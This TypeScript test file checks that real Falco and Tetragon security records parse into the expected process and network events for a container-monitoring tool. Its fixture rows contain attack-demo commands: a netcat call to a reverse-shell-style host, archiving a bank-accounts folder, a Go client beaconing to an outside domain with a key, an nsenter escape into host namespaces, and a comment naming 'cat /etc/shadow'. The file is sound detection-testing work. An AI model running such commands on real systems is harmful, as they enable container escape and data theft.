/**
 * What every record of fixtures/real/ becomes: records Falco and Tetragon really emitted, copied from
 * those projects' repositories and docs (each line cited in fixtures/real/README.md). One row per
 * line: the ActivityEvent fields that matter and the entry they give, or why the record is skipped.
 */
import test from 'ava';
import { readFileSync } from 'node:fs';
import { parseFalcoLine } from '../../agent/sources/falco-event.js';
import { isRejected, type IgnoreReason, type ParseResult, type RejectReason } from '../../agent/sources/record.js';
import { parseTetragonLine } from '../../agent/sources/tetragon-event.js';
import { entryOf, describeEntry } from '../../core/entry.js';
import type { ActivityEvent } from '../../core/event.js';
import { parseCidr } from '../../core/ip.js';

const ctx = { node: 'node-1', source: 'real' };
const ENTRY_OPTIONS = { clusterRanges: ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16'].map(parseCidr) };

function read(name: string): string[] {
  return readFileSync(new URL(`../../../fixtures/real/${name}`, import.meta.url), 'utf8').trim().split('\n');
}

/** What a record becomes: an event (the fields that matter, and its entry), or a skip with its reason. */
type Expect =
  | { skip: RejectReason; ignore?: IgnoreReason }
  | {
      kind: ActivityEvent['kind'];
      time: string;
      container: string | null;
      /** '' when the record names no image (attribution completes it from another event or the runtime). */
      image: string;
      pod?: string | null;
      exe: string;
      name: string;
      args: string[];
      parent: string;
      uid: number;
      network?: Partial<NonNullable<ActivityEvent['network']>>;
      /** describeEntry of the entry the event gives. */
      entry: string;
    };

function check(t: import('ava').ExecutionContext, r: ParseResult, want: Expect, line: number): void {
  if ('skip' in want) {
    t.true(isRejected(r), `line ${line} is skipped`);
    if (isRejected(r)) {
      t.is(r.reject, want.skip, `line ${line}: ${r.detail}`);
      t.is(r.ignore, want.ignore, `line ${line}: why it is ignored`);
    }
    return;
  }
  if (isRejected(r)) {
    t.fail(`line ${line} rejected: ${r.reject} ${r.detail}`);
    return;
  }
  t.is(r.kind, want.kind, `line ${line} kind`);
  t.is(new Date(r.time).toISOString(), want.time, `line ${line} time`);
  t.is(r.container?.id ?? null, want.container, `line ${line} container`);
  t.is(r.container?.image.repository ?? '', want.image, `line ${line} image`);
  if (want.pod !== undefined) t.is(r.pod ? `${r.pod.namespace}/${r.pod.name}` : null, want.pod, `line ${line} pod`);
  const p = r.process;
  t.deepEqual([p.exe, p.name, p.args, p.parentExe || p.parentName, p.uid], [want.exe, want.name, want.args, want.parent, want.uid], `line ${line} process`);
  if (want.network) t.like(r.network, want.network, `line ${line} network`);
  const entry = entryOf(r, ENTRY_OPTIONS);
  t.is(entry ? describeEntry(entry) : null, want.entry, `line ${line} entry`);
}

// fixtures/real/falco.jsonl, in order (see its README for where each line comes from).
const FALCO: Expect[] = [
  // 1. 2021 "Terminal shell in container": k8s fields, the image not resolved yet (null), no proc.pname,
  // user.name without user.uid. root by name: a later output with user.uid 0 is the same user class.
  { kind: 'exec', time: '2021-01-14T23:39:44.834Z', container: '5892b41bcf46', image: '', pod: 'default/alpine', exe: '', name: 'sh', args: [], parent: '', uid: 0, entry: 'sh (parent ?, root)' },
  // 2. the same rule with the image, parent runc and a command.
  { kind: 'exec', time: '2021-04-10T19:27:21.002Z', container: '97c9868ea832', image: 'docker.io/library/alpine', pod: 'default/alpine', exe: '', name: 'sh', args: ['-c', 'uptime'], parent: 'runc', uid: 0, entry: 'sh -c uptime (parent runc, root)' },
  // 3. "Contact K8S API Server From Container": fd.name and proc.cmdline, no proc.name, no user: a
  // connection, its process named by the command line's first word (was: rejected as missing_field).
  { kind: 'connect', time: '2021-04-10T19:27:21.038Z', container: '12fc4de5ccc3', image: 'docker.io/devopps/falco-pod-delete', exe: '', name: 'handler', args: [], parent: '', uid: -1, network: { protocol: 'tcp', localAddress: '172.17.0.9', localPort: 43812, remoteAddress: '10.96.0.1', remotePort: 443 }, entry: 'egress tcp cluster:443' },
  { kind: 'exec', time: '2021-07-21T10:36:32.750Z', container: 'cbd3133ccac6', image: 'docker.io/library/alpine', exe: '', name: 'sh', args: ['-c', 'uptime'], parent: 'runc', uid: 0, entry: 'sh -c uptime (parent runc, root)' },
  // 5. the same network rule; its command line has an empty argument (two spaces), dropped.
  { kind: 'connect', time: '2021-07-21T10:37:09.101Z', container: '281c99ea33c2', image: 'docker.io/fission/fetcher', exe: '', name: 'fetcher', args: ['-secret-dir', '/secrets', '-cfgmap-dir', '/configs', '-jaeger-collector-endpoint', '/userfunc'], parent: '', uid: -1, network: { remoteAddress: '10.100.0.1', remotePort: 443 }, entry: 'egress tcp cluster:443' },
  { kind: 'exec', time: '2021-05-02T20:24:10.361Z', container: '6ac7d190134e', image: 'docker.io/library/alpine', pod: 'falcoresponse/alpine', exe: '', name: 'sh', args: ['-c', 'uptime'], parent: 'runc', uid: 0, entry: 'sh -c uptime (parent runc, root)' },
  { kind: 'exec', time: '2021-06-13T19:35:58.532Z', container: '788861c3cf83', image: 'docker.io/library/alpine', pod: 'default/alpine-deployment-77789455d6-m7flp', exe: '', name: 'sh', args: ['-c', 'uptime'], parent: 'runc', uid: 0, entry: 'sh -c uptime (parent runc, root)' },
  // 8. 2023 (Falco 0.34), source and tags present; the shell's script split at whitespace.
  { kind: 'exec', time: '2023-05-25T13:44:05.478Z', container: 'ee97d9c4186f', image: 'docker.io/library/alpine', pod: 'default/kubecon', exe: '', name: 'sh', args: ['-c', 'clear;', '(bash', '||', 'ash', '||', 'sh)'], parent: 'runc', uid: 0, entry: 'sh -c clear; (bash || ash || sh) (parent runc, root)' },
  // 9. a k8s_audit (plugin) event.
  { skip: 'unsupported', ignore: 'other_source' },
  // 10. "Write below binary dir", 2019, no evt.type: fd.name is a file, so not a process start
  // (was: read as an exec of `touch`, then rejected for its missing container.id).
  { skip: 'unsupported', ignore: 'file_event' },
  // 11. "Falco internal: syscall event drop" (no source field in that version).
  { skip: 'unsupported', ignore: 'other_source' },
  // 12. 2025, rules ≥ 3 (evt.type, proc.exepath, user.uid, user.loginuid, maturity tags): `cat
  // /etc/shadow` on the host, an openat: a file access, not a process start or a connection.
  { skip: 'unsupported', ignore: 'event_type' },
];

// fixtures/real/tetragon.jsonl, in order.
const TETRAGON: Expect[] = [
  // 1. cilium/tetragon testdata: a process_exec without `time`.
  { skip: 'bad_time' },
  { kind: 'exec', time: '2022-10-18T03:16:21.373Z', container: '16ecce28d680', image: 'docker.io/cilium/starwars', pod: 'default/deathstar-6f87496b94-qdlh8', exe: '/starwars-docker', name: 'starwars-docker', args: ['--port', '80', '--host', '0.0.0.0'], parent: '/usr/bin/containerd-shim-runc-v2', uid: 0, entry: '/starwars-docker --port <num> --host <ip> (parent containerd-shim, root)' },
  { kind: 'exec', time: '2022-01-19T16:29:01.861Z', container: '86eb9e29a77d', image: 'quay.io/isovalent/jobs-app-elasticsearch', exe: '/usr/bin/curl', name: 'curl', args: ['www.google.com'], parent: '/bin/bash', uid: 0, entry: '/usr/bin/curl www.google.com (parent bash, root)' },
  // 4. process_connect (the format the kprobe-only reader ignored): the peer is public.
  { kind: 'connect', time: '2022-01-19T16:29:02.021Z', container: '86eb9e29a77d', image: 'quay.io/isovalent/jobs-app-elasticsearch', exe: '/usr/bin/curl', name: 'curl', args: ['www.google.com'], parent: '/bin/bash', uid: 0, network: { protocol: 'tcp', localAddress: '10.88.0.7', localPort: 49168, remoteAddress: '142.250.180.196', remotePort: 80 }, entry: 'egress tcp 142.250.180.196:80' },
  { skip: 'unsupported', ignore: 'process_close' },
  { skip: 'unsupported', ignore: 'process_exit' },
  // 7. a kprobe on write(): not a function Driftwatch reads.
  { skip: 'unsupported', ignore: 'kprobe_function' },
  // 8. process_listen: {ip, port, protocol}.
  { kind: 'listen', time: '2022-01-19T16:28:52.646Z', container: '97329341d8b3', image: 'quay.io/isovalent/jobs-app-coreapi', exe: '/usr/local/bin/python', name: 'python', args: ['app.py'], parent: '/bin/sh', uid: 0, network: { localAddress: '0.0.0.0', localPort: 9080, remotePort: -1 }, entry: 'listen tcp any:9080' },
  // 9. nginx started by its entrypoint script; `-g "daemon off;"` split like Falco's command line.
  { kind: 'exec', time: '2022-01-19T11:05:54.411Z', container: '85f791fd8dfa', image: 'docker.io/library/nginx', exe: '/usr/sbin/nginx', name: 'nginx', args: ['-g', 'daemon', 'off;'], parent: '/docker-entrypoint.sh', uid: 0, entry: '/usr/sbin/nginx -g daemon off; (parent docker-entrypoi, root)' },
  { kind: 'listen', time: '2022-01-19T11:05:54.415Z', container: '85f791fd8dfa', image: 'docker.io/library/nginx', exe: '/usr/sbin/nginx', name: 'nginx', args: ['-g', 'daemon', 'off;'], parent: '/docker-entrypoint.sh', uid: 0, network: { localAddress: '0.0.0.0', localPort: 80 }, entry: 'listen tcp any:80' },
  // 11. a script: the kernel runs it as `sh script args`, so its own path is the first argument.
  { kind: 'exec', time: '2022-01-19T11:05:54.378Z', container: '85f791fd8dfa', image: 'docker.io/library/nginx', exe: '/docker-entrypoint.sh', name: 'docker-entrypoi', args: ['/docker-entrypoint.sh', 'nginx', '-g', 'daemon', 'off;'], parent: '/usr/bin/containerd-shim', uid: 0, entry: '/docker-entrypoint.sh /docker-entrypoint.sh nginx -g daemon off; (parent containerd-shim, root)' },
  { kind: 'exec', time: '2022-02-01T18:01:56.411Z', container: 'e6af4dff4ea3', image: 'quay.io/isovalent/jobs-app-elasticsearch', exe: '/usr/bin/nc', name: 'nc', args: ['raiz3gjkgtfhkkc.not-reverse-shell.com', '443'], parent: '/usr/bin/sh', uid: 0, entry: '/usr/bin/nc <rand> <num> (parent sh, root)' },
  { kind: 'connect', time: '2022-02-01T18:01:56.419Z', container: 'e6af4dff4ea3', image: 'quay.io/isovalent/jobs-app-elasticsearch', exe: '/usr/bin/nc', name: 'nc', args: ['raiz3gjkgtfhkkc.not-reverse-shell.com', '443'], parent: '/usr/bin/sh', uid: 0, network: { remoteAddress: '64.225.45.153', remotePort: 443 }, entry: 'egress tcp 64.225.45.153:443' },
  // 14. a Docker container outside Kubernetes (no pod): the `docker` id, the image left to attribution.
  { kind: 'exec', time: '2022-01-19T12:05:31.477Z', container: 'a51959123c3b', image: '', pod: null, exe: '/bin/sh', name: 'sh', args: ['-c', '7z', 'a', 's3nsitiv3.7z', '../ops_bank_accounts/'], parent: '/tmp/go-build3514866200/b001/exe/main', uid: 0, entry: '/bin/sh -c 7z a s3nsitiv3.7z ../ops_bank_accounts/ (parent main, root)' },
  { kind: 'connect', time: '2022-01-19T11:28:30.640Z', container: 'a51959123c3b', image: '', pod: null, exe: '/tmp/go-build3518135900/b001/exe/main', name: 'main', args: ['-v', '-url', 'https://main.linux-libs.org:443', '-proto', 'h2', '-psk', 'SecurePSK!23@456'], parent: '/usr/local/go/bin/go', uid: 0, network: { localAddress: '10.88.0.3', localPort: 43374, remoteAddress: '34.116.205.187', remotePort: 443 }, entry: 'egress tcp 34.116.205.187:443' },
  { kind: 'exec', time: '2022-01-19T11:16:29.378Z', container: '85f791fd8dfa', image: 'docker.io/library/nginx', exe: '/usr/bin/nsenter', name: 'nsenter', args: ['-t', '1', '-m', '-u', '-n', '-i', '-p', 'bash'], parent: '/bin/bash', uid: 0, entry: '/usr/bin/nsenter -t <num> -m -u -n -i -p bash (parent bash, root)' },
  // 17. Tetragon's docs (2023): pod with workload, no workload_kind.
  { kind: 'exec', time: '2023-10-06T22:03:57.700Z', container: '551e161c47d8', image: 'docker.io/tgraf/netperf', pod: 'default/xwing', exe: '/usr/bin/curl', name: 'curl', args: ['https://ebpf.io/applications/#tetragon'], parent: '/bin/bash', uid: 0, entry: '/usr/bin/curl https://ebpf.io/applications/#tetragon (parent bash, root)' },
];

test('every real Falco record becomes what its row says', (t) => {
  const lines = read('falco.jsonl');
  t.is(lines.length, FALCO.length, 'one row per line');
  lines.forEach((line, i) => check(t, parseFalcoLine(line, ctx), FALCO[i] as Expect, i + 1));
});

test('every real Tetragon record becomes what its row says', (t) => {
  const lines = read('tetragon.jsonl');
  t.is(lines.length, TETRAGON.length, 'one row per line');
  lines.forEach((line, i) => check(t, parseTetragonLine(line, ctx), TETRAGON[i] as Expect, i + 1));
});

test('a user name without a uid is the same user class as the uid: no false "runs as root"', (t) => {
  // Line 2 (2021: user.name root, no user.uid) and the same output as later Falco prints it.
  const old = read('falco.jsonl')[1] as string;
  const record = JSON.parse(old) as { output_fields: Record<string, unknown> };
  record.output_fields['user.uid'] = 0;
  const a = parseFalcoLine(old, ctx);
  const b = parseFalcoLine(JSON.stringify(record), ctx);
  if (isRejected(a) || isRejected(b)) return t.fail('rejected');
  t.deepEqual(entryOf(a, ENTRY_OPTIONS), entryOf(b, ENTRY_OPTIONS));
  // A name that is not root says nothing certain about the class: unknown, never root.
  record.output_fields['user.name'] = 'www-data';
  delete record.output_fields['user.uid'];
  const c = parseFalcoLine(JSON.stringify(record), ctx);
  if (isRejected(c)) return t.fail('rejected');
  t.is(c.process.uid, -1);
});

test('Falco name fields make the peer a DNS name (fd.sip.name, fd.rip.name, a name inside fd.name)', (t) => {
  // Line 3 (a real connection) with the name fields a rule prints when it asks for them.
  const base = JSON.parse(read('falco.jsonl')[2] as string) as { output_fields: Record<string, unknown> };
  const withFields = (fields: Record<string, unknown>) => {
    const r = parseFalcoLine(JSON.stringify({ ...base, output_fields: { ...base.output_fields, ...fields } }), ctx);
    if (isRejected(r)) throw new Error(`${r.reject} ${r.detail}`);
    return r;
  };
  const public_ = { 'fd.name': '172.17.0.9:43812->52.216.8.1:443' };
  const sip = withFields({ ...public_, 'fd.sip.name': 'my-bucket.s3.amazonaws.com' });
  t.is(sip.network?.remoteName, 'my-bucket.s3.amazonaws.com');
  t.is(sip.network?.remoteAddress, '52.216.8.1');
  t.is(describeEntry(entryOf(sip, ENTRY_OPTIONS)!), 'egress tcp my-bucket.s3.amazonaws.com:443');
  t.is(withFields({ ...public_, 'fd.rip.name': 'api.example.com' }).network?.remoteName, 'api.example.com');
  // Falco with hostname resolution prints a name where the address was.
  const named = withFields({ 'fd.name': '172.17.0.9:43812->storage.googleapis.com:443' });
  t.like(named.network, { remoteAddress: '', remoteName: 'storage.googleapis.com', remotePort: 443 });
  t.is(describeEntry(entryOf(named, ENTRY_OPTIONS)!), 'egress tcp storage.googleapis.com:443');
  // An accept names the client.
  const accept = withFields({ 'evt.type': 'accept', 'fd.name': '203.0.113.9:5000->172.17.0.9:8080', 'fd.cip.name': 'client.example.net' });
  t.like(accept.network, { localPort: 8080, remoteAddress: '203.0.113.9', remoteName: 'client.example.net' });
  // `<NA>` is no name.
  t.is(withFields({ ...public_, 'fd.sip.name': '<NA>' }).network?.remoteName, '');
});
